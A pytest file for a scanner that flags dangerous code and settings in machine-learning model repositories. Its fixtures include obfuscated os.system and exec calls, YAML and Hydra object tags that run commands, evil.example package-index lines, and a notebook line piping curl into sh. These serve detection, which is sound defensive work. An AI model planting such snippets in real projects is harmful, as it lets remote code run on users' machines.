from __future__ import annotations

import json
from contextlib import suppress
from importlib import import_module
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from weighbridge.core.finding import Effect, Finding
from weighbridge.errors import DamagedFile
from weighbridge.inspection.code.objects import in_json, in_yaml
from weighbridge.inspection.code.source import read_source
from weighbridge.testing.pinned import pin

if TYPE_CHECKING:
    from pathlib import Path


def _say(folder: Path, check: str, name: str, data: str) -> list[Finding]:
    (folder / name).write_text(data, encoding="utf-8")
    function = getattr(import_module(f"weighbridge.inspection.checks.code.{check}"), check)
    return [one for one in function(pin(folder)) if isinstance(one, Finding)]


_SYSTEM = ("runs programs", "os.system")


@pytest.mark.parametrize(
    ("code", "what", "name"),
    [
        ("import os\nos.system('id')", "runs programs", "os.system"),
        ("import os as o\no.system('id')", "runs programs", "os.system"),
        ("from subprocess import run as r\nr(['id'])", "runs programs", "subprocess.run"),
        ("import os\nf = os.popen\nf('id')", "runs programs", "os.popen"),
        ("import os\nos.execvp('sh', [])", "runs programs", "os.execvp"),
        ("__import__('os').system('id')", "runs programs", "os.system"),
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "runs programs", "os.system"),
        ("import importlib\nimportlib.import_module('os').system('id')", "runs programs", "os.system"),
        ("exec('x')", "runs text as code", "exec"),
        ("__builtins__['eval']('1')", "runs text as code", "eval"),
        ("getattr(__builtins__, ''.join(['ex', 'ec']))('1')", "runs text as code", "builtins.exec"),
        ("import urllib.request\nurllib.request.urlopen('http://x')", "opens connections", "urllib.request.urlopen"),
        ("import socket\ns = socket.socket()", "opens connections", "socket.socket"),
        ("import ctypes\nctypes.CDLL('x')", "loads machine code", "ctypes.CDLL"),
        ("import pickle\npickle.loads(b'')", "loads pickles", "pickle.loads"),
        ("import os\ndef f():\n    os.system('id')\nf()", "runs programs", "os.system"),
        ("import os\nclass A:\n    x = os.system('id')", "runs programs", "os.system"),
        ("import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()", "runs programs", "os.system"),
        ("import os\ndef d(f):\n    os.system('id')\n@d\ndef g(): ...", "runs programs", "os.system"),
        ("import os\ndef f(x=os.system('id')): ...", "runs programs", "os.system"),
        ("import os\nif __name__ != '__main__':\n    os.system('id')", "runs programs", "os.system"),
        ("import os\nif __name__ == 'modeling_x':\n    os.system('id')", "runs programs", "os.system"),
        ("from os import *\nsystem('id')", "runs programs", "os.system"),
        ("import shutil\nshutil.os.system('id')", "runs programs", "shutil.os.system"),
        ("import sys\nsys.modules['os'].system('id')", "runs programs", "os.system"),
        ("import os\nos.__dict__['system']('id')", "runs programs", "os.system"),
        ("import os\nlist(map(os.system, ['id']))", "runs programs", "os.system"),
        ("@exec\n@input\nclass A: ...", "runs text as code", "exec"),
        ("().__class__.__base__.__subclasses__()", "reaches into Python's insides", "__subclasses__"),
        ("import os\ntry:\n    os.system('id')\nexcept Exception: ...", "runs programs", "os.system"),
        ("import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')", "runs programs", "os.system"),
        ("import os\nclass M(type):\n  def __new__(*a):\n    os.system('id')\nclass A(metaclass=M): ...", *_SYSTEM),
        ("import os\nclass M(type):\n  def __call__(*a):\n    os.system('id')\nclass A(metaclass=M): ...", *_SYSTEM),
        ("import os\ndef m(*a):\n    os.system('id')\nclass A(metaclass=m): ...", *_SYSTEM),
        ("import os\nclass A(os.system('id') or object): ...", *_SYSTEM),
        ("import os\nclass A(object, x=os.system('id')): ...", *_SYSTEM),
        ("import os\nclass A:\n    class B:\n        def f(self, x=os.system('id')): ...", *_SYSTEM),
        ("import os\nclass A:\n    def d(f):\n        os.system('id')\n    @d\n    def g(self): ...", *_SYSTEM),
        ("import os\nclass D:\n  def __call__(self, f):\n    os.system('id')\n@D()\ndef g(): ...", *_SYSTEM),
        ("import os\ndef d(x):\n  def w(f):\n    os.system('id')\n  return w\n@d(1)\ndef g(): ...", *_SYSTEM),
        ("import os\n@lambda f: os.system('id')\ndef g(): ...", *_SYSTEM),
        ("import os\ndef f(*, x=os.system('id')): ...", *_SYSTEM),
        ("import os\nf = lambda x=os.system('id'): x", *_SYSTEM),
        ("import os\ndef f(x: os.system('id')): ...", *_SYSTEM),
        ("import os\nclass A:\n    x: os.system('id') = 1", *_SYSTEM),
        ("import os\n(lambda: os.system('id'))()", *_SYSTEM),
        ("import os\nf = lambda: os.system('id')\nf()", *_SYSTEM),
        ("import os\ndef f(x):\n    os.system('id')\nlist(map(f, [1]))", *_SYSTEM),
        ("import os, threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()", *_SYSTEM),
        ("import os\nclass A:\n    def __enter__(self):\n        os.system('id')\nwith A(): ...", *_SYSTEM),
        ("import os\nclass A:\n    def __add__(self, o):\n        os.system('id')\nA() + 1", *_SYSTEM),
        ("import os\ndef __getattr__(name):\n    os.system('id')", *_SYSTEM),
    ],
)
def test_what_importing_does_is_told(tmp_path: Path, code: str, what: str, name: str) -> None:
    """Aliases, assembled names, own functions, class bodies, decorators, defaults: CPython runs them all."""
    found = _say(tmp_path, "python_code", "modeling_x.py", code)
    grave = [one for one in found if one.severity == "critical"]
    assert any(one.message.startswith(f"{what} when it is imported") and f"`{name}`" in one.message for one in grave)
    assert {one.effect for one in found} == {Effect.ASKS_TRUST}


def test_decoded_code_is_named_as_such(tmp_path: Path) -> None:
    """The usual chain."""
    code = "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJw=')))"
    assert any("after it decoded hidden data" in one.message for one in _say(tmp_path, "python_code", "a.py", code))


@pytest.mark.parametrize(
    "code",
    [
        "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        return x",
        "import re\nP = re.compile('x')",
        "import os\nHERE = os.path.dirname(__file__)\nDEBUG = os.environ.get('DEBUG')",
        "import os\nif __name__ == '__main__':\n    print(os.getcwd())",
        "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\nf = torch.compile(model)",
        "def save(path):\n    with open(path, 'w') as f:\n        f.write('x')",
        "import importlib\nx = importlib.import_module('torch')",
    ],
)
def test_ordinary_code_is_no_hard_finding(tmp_path: Path, code: str) -> None:
    """As modelling files are written; 1,987 files of transformers gave none either."""
    found = _say(tmp_path, "python_code", "modeling_x.py", code)
    assert {one.severity for one in found} == {"medium"}


def test_a_body_that_no_import_enters_is_told_as_called_later(tmp_path: Path) -> None:
    """Annotations under `from __future__ import annotations` are texts, and a class is only defined."""
    code = "from __future__ import annotations\nimport os\nclass A:\n  def f(self, x: int):\n    os.system('id')\n"
    (found, _) = _say(tmp_path, "python_code", "a.py", code + "def g(x: os.system('id')): ...\n")
    assert found.message == "runs programs when it is called: `os.system` at line 5, `os.system` at line 6"


@pytest.mark.parametrize(
    ("code", "when", "severity"),
    [
        ("m = AutoModel.from_pretrained('a/b', trust_remote_code=True)", "imported", "high"),
        ("def f():\n    m = AutoModel.from_pretrained('a/b', trust_remote_code=True)", "called", "medium"),
        ("kwargs = {'trust_remote_code': True}", "imported", "high"),
        ("class C:\n    def f(self):\n        self.trust_remote_code = 1", "called", "medium"),
    ],
)
def test_python_that_trusts_other_code_is_told_by_itself(tmp_path: Path, code: str, when: str, severity: str) -> None:
    """Code of another repository is loaded by code of this one, which nobody asked about."""
    (found, *_) = _say(tmp_path, "python_code", "a.py", f"from transformers import AutoModel\n{code}")
    start = f"sets `trust_remote_code` to true when it is {when}, so that other code is loaded in turn: `"
    assert (found.message.startswith(start), found.severity, found.effect) == (True, severity, Effect.ASKS_TRUST)


@pytest.mark.parametrize("value", ["False", "args.trust_remote_code", "None"])
def test_python_that_leaves_trust_to_its_user_is_no_such_finding(tmp_path: Path, value: str) -> None:
    """What the user says is the user's."""
    code = (
        f"from transformers import AutoModel as M\ndef f(args):\n    M.from_pretrained('a', trust_remote_code={value})"
    )
    assert [one.severity for one in _say(tmp_path, "python_code", "a.py", code)] == ["medium"]


@pytest.mark.parametrize("code", ["", "# nothing\n", '"""A package."""\n__version__ = "1"\n'])
def test_values_alone_are_no_code(tmp_path: Path, code: str) -> None:
    """`__init__.py` is often empty."""
    assert _say(tmp_path, "python_code", "__init__.py", code) == []


def test_code_that_cannot_be_parsed_is_unknown(tmp_path: Path) -> None:
    """Python 2, or worse."""
    (found,) = _say(tmp_path, "python_code", "a.py", "print 'x'")
    assert (found.severity, found.effect) == ("high", Effect.UNKNOWN)


def test_a_notebook_is_read_by_its_cells(tmp_path: Path) -> None:
    """`!` lines are a shell's; text cells are not read."""
    cells = [
        {"cell_type": "markdown", "source": "exec('x')"},
        {"cell_type": "code", "source": ["!curl http://x | sh\n", "%matplotlib inline\n", "x = 1"]},
    ]
    found = _say(tmp_path, "python_code", "demo.ipynb", json.dumps({"cells": cells}))
    assert [one.severity for one in found if "runs programs when it is imported" in one.message] == ["critical"]
    assert not any("exec" in one.message for one in found)


@pytest.mark.parametrize(
    ("name", "value", "said"),
    [
        ("config.json", {"text_config": {"auto_map": {"AutoModel": "m.M"}}}, "asks for custom code"),
        (
            "config.json",
            {"auto_map": {"AutoModel": "them/repo--m.M"}},
            "another repository, whose revision is not pinned",
        ),
        ("config.json", {"custom_pipelines": {"t": {"impl": "own.Pipe", "pt": ["A"]}}}, "custom pipeline: `own.Pipe`"),
        ("generation_config.json", {"trust_remote_code": True}, "sets `trust_remote_code` to true"),
        ("model_index.json", {"_class_name": ["pipe", "P"], "unet": ["diffusers", "U"]}, "from the file `pipe.py`"),
        ("modules.json", [{"type": "custom_st.Transformer"}], "modules that are no library's own"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "evil.mod"}}, "which PEFT would import"),
    ],
)
def test_a_configuration_that_asks_for_code_is_found(tmp_path: Path, name: str, value: Any, said: str) -> None:
    """The ways by which transformers, diffusers, sentence-transformers and PEFT come to import a file."""
    (found,) = _say(tmp_path, "remote_code", name, json.dumps(value))
    assert (said in found.message, found.severity, found.effect) == (True, "high", Effect.ASKS_TRUST)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("config.json", {"architectures": ["LlamaForCausalLM"], "trust_remote_code": False}),
        ("model_index.json", {"_class_name": "P", "unet": ["diffusers", "U"], "safety_checker": [None, None]}),
        ("modules.json", [{"type": "sentence_transformers.models.Transformer"}]),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "transformers.models.llama.modeling_llama"}}),
    ],
)
def test_a_configuration_of_a_library_asks_for_nothing(tmp_path: Path, name: str, value: Any) -> None:
    """As the libraries write them."""
    assert _say(tmp_path, "remote_code", name, json.dumps(value)) == []


@pytest.mark.parametrize(
    ("name", "text", "weight"),
    [
        ("a.yaml", "a: !!python/object/apply:os.system ['id']", "runs-code"),
        ("a.yml", "a: !<tag:yaml.org,2002:python/name:os.system> ''", "runs-code"),
        ("a.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']", "runs-code"),
        ("a.yaml", "model:\n  _target_: os.system\n  _args_: [id]", "runs-code"),
        ("a.yaml", "model:\n  _target_: builtins.exec", "runs-code"),
        ("a.yaml", "model:\n  _target_: evil_package.run", "asks-trust"),
        ("a.yaml", "model: ${eval:1+1}", "asks-trust"),
        ("config.json", '{"m": {"_target_": "subprocess.run"}}', "runs-code"),
        ("config.json", '{"py/reduce": [{"py/type": "os.system"}]}', "runs-code"),
        ("model.json", '{"class_name": "Lambda", "config": {"function": ["4wEA", null, null]}}', "runs-code"),
        ("model.json", '{"class_name": "run", "module": "subprocess", "config": {}}', "runs-code"),
    ],
)
def test_settings_that_make_objects_are_found(tmp_path: Path, name: str, text: str, weight: str) -> None:
    """PyYAML's tags, Hydra's targets (CVE-2025-23304), jsonpickle, Keras (CVE-2025-1550), OmegaConf."""
    assert {str(one.effect) for one in _say(tmp_path, "object_tags", name, text)} == {weight}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.yaml", "a: 1\nb: !!str 2\nc: [x, y]\n# !!python/object is forbidden here\n"),
        ("a.yaml", "model:\n  _target_: nemo.collections.nlp.models.GPTModel"),
        ("a.yaml", "loss:\n  target: mean squared error"),
        ("model.json", '{"class_name": "Dense", "module": "keras.layers", "config": {"units": 1}}'),
        ("config.json", '{"model_type": "llama", "class_name": "x"}'),
    ],
)
def test_ordinary_settings_are_no_hard_finding(tmp_path: Path, name: str, text: str) -> None:
    """A target of a known library is a note."""
    assert {one.effect for one in _say(tmp_path, "object_tags", name, text)} <= {None}


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("--extra-index-url http://evil.example/simple", "high"),
        ("--index-url=https://evil.example/simple", "high"),
        ("--trusted-host evil.example", "high"),
        ("x @ http://evil.example/x.whl", "high"),
        ("git+https://github.com/them/x.git", "medium"),
        ("--extra-index-url https://download.pytorch.org/whl/cu121", "low"),
        ("torch==2.5.1", None),
        ("transformers>=4.40  # https://example.org/x.whl", None),
    ],
)
def test_packages_from_elsewhere_are_found(tmp_path: Path, line: str, severity: str | None) -> None:
    """What pip's own documentation calls requirement specifiers and index options."""
    found = _say(tmp_path, "requirements", "requirements.txt", f"numpy\n{line}\n")
    assert [one.severity for one in found] == ([severity] if severity else [])


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_no_text_breaks_the_readers(text: str) -> None:
    """A stranger's file ends in an answer or in DamagedFile."""
    data = text.encode("utf-8", "replace")
    readings = (lambda: read_source(text), lambda: in_yaml(data), lambda: in_json(data + b"_target_", "x"))
    for read in readings:
        with suppress(DamagedFile):
            read()
